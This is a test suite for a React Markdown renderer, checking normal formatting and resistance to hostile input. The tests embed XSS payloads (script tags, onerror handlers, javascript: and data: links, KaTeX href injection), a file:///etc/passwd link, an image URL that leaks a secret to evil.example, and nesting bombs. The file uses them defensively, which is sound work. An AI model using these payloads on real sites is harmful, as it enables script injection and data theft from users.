import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { MantineProvider } from '@mantine/core';
import { Markdown } from './markdown.tsx';

/** Every element that an answer may become; KaTeX's MathML is listed by its namespace. */
const ALLOWED = new Set(
  'DIV P H3 H4 H5 H6 EM STRONG DEL BLOCKQUOTE BR HR CODE PRE FIGURE FIGCAPTION SPAN A OL UL LI TABLE THEAD TBODY TR TH TD SUP BUTTON svg path'.split(
    ' ',
  ),
);

async function show(text: string, growing = false) {
  const { container } = await render(
    <MantineProvider>
      <section>
        <Markdown text={text} growing={growing} />
      </section>
    </MantineProvider>,
  );
  const section = container.querySelector('section');
  if (section === null) throw new Error('nothing was drawn');
  return section;
}

const strange = (section: Element) =>
  [...section.querySelectorAll('*')]
    .filter(({ namespaceURI }) => namespaceURI !== 'http://www.w3.org/1998/Math/MathML')
    .map(({ tagName }) => tagName)
    .filter((name) => !ALLOWED.has(name));

describe('an answer', () => {
  it('becomes headings, lists, tables, code and links that open outside', async () => {
    const section = await show(
      '# Title\n\n1. one\n2. **two**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nconst a = 1;\n```\n\n[site](https://example.com)',
    );
    expect(section.querySelector('h3')?.textContent).toBe('Title');
    expect(section.querySelectorAll('li')).toHaveLength(2);
    expect(section.querySelector('td[data-align=right]')?.textContent).toBe('2');
    await expect.poll(() => section.querySelector('[data-scope=keyword]')?.textContent).toBe('const');
    const link = section.querySelector('a');
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer']);
    expect(strange(section)).toEqual([]);
  });

  it('draws formulas as MathML, and shows what is none as it was written', async () => {
    const section = await show('Thus $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nbut $$\\nonsense{$$.');
    await expect.poll(() => section.querySelectorAll('math').length).toBe(2);
    expect(section.querySelector('math[display=block] mfrac')).not.toBeNull();
    expect(section.textContent).toContain('\\nonsense{');
  });

  it('is the same when it grew as when it came whole', async () => {
    const text = 'Hello *you*\n\n- a\n- b\n\n```py\nx = 1\n```\n\nEnd.';
    const words = (section: Element) => section.textContent;
    const whole = await show(text);
    const { container, rerender } = await render(<MantineProvider>{null}</MantineProvider>);
    for (let length = 1; length <= text.length; length += 1) {
      await rerender(
        <MantineProvider>
          <Markdown text={text.slice(0, length)} growing />
        </MantineProvider>,
      );
    }
    expect(words(container)).toContain(words(whole).slice(0, 8));
    expect(container.querySelectorAll('li, figure, p, em')).toHaveLength(
      whole.querySelectorAll('li, figure, p, em').length,
    );
  });
});

describe('a hostile answer', () => {
  it.each([
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned=1">',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>\n\n<b>bold</b> text <a href="javascript:1">x</a>',
    '[click](javascript:window.pwned=1) [d](data:text/html,<script>1</script>) [v](vbscript:1)',
    '[file](file:///etc/passwd) [rel](/_ui/rpc/host.stop) <javascript:alert(1)>',
    '$$\\href{javascript:alert(1)}{x}$$ $$\\includegraphics{https://evil.example/x}$$',
    '$$\\htmlStyle{position:fixed}{x}$$',
  ])('%s stays words', async (text) => {
    const section = await show(text);
    expect(strange(section)).toEqual([]);
    expect([...section.querySelectorAll('a')].map(({ href }) => href)).toEqual([]);
    expect('pwned' in window).toBe(false);
  });

  it('loads no image from elsewhere: it shows a link', async () => {
    const section = await show('![secret](https://evil.example/?q=secret) ![d](data:image/png;base64,AAAA)');
    expect(section.querySelector('img')).toBeNull();
    expect(section.querySelector('a')?.href).toBe('https://evil.example/?q=secret');
  });

  it.each([
    ['quotes in quotes', '>'.repeat(5_000) + ' deep'],
    ['lists in lists', Array.from({ length: 300 }, (_, n) => `${'  '.repeat(n)}- x`).join('\n')],
    ['emphasis without end', '*a **b '.repeat(3_000)],
    ['brackets', '['.repeat(5_000)],
    ['a fence that nothing closes', '```js\n' + 'x\n'.repeat(5_000)],
    ['a formula that expands without end', '$$\\def\\a{\\a\\a}\\a$$'],
  ])('%s does no harm', async (_name, text) => {
    const section = await show(text, true);
    expect(strange(section)).toEqual([]);
    expect(section.textContent.length).toBeGreaterThan(0);
  });

  it('a table with thousands of rows shows some of them first', async () => {
    const section = await show('| a |\n|---|\n' + '| 1 |\n'.repeat(3_000));
    expect(section.querySelectorAll('tbody tr')).toHaveLength(200);
    expect(section.querySelector('button')?.textContent).toContain('3,000');
  });

  it('never throws, and never makes an element that is not on the list', { timeout: 120_000 }, async () => {
    const parts = fc.array(
      fc.oneof(
        fc.constantFrom(
          ...[
            '<script>',
            '</div>',
            '<img src=x onerror=y>',
            '[x](javascript:y)',
            '![',
            '](',
            '```',
            '$$',
            '\\[',
            '|',
          ],
          ...['\n', '\n\n', '> ', '- ', '1. ', '# ', '**', '[^1]', '[^1]: ', '&lt;', '|---|', '\n\t', '<!--'],
        ),
        fc.string({ maxLength: 8 }),
      ),
      { maxLength: 40 },
    );
    await fc.assert(
      fc.asyncProperty(parts, fc.boolean(), async (all, growing) => {
        const section = await show(all.join(''), growing);
        expect(strange(section)).toEqual([]);
        for (const { href } of section.querySelectorAll('a')) expect(href).toMatch(/^(https?|mailto):/);
      }),
      { numRuns: 100 },
    );
  });
});
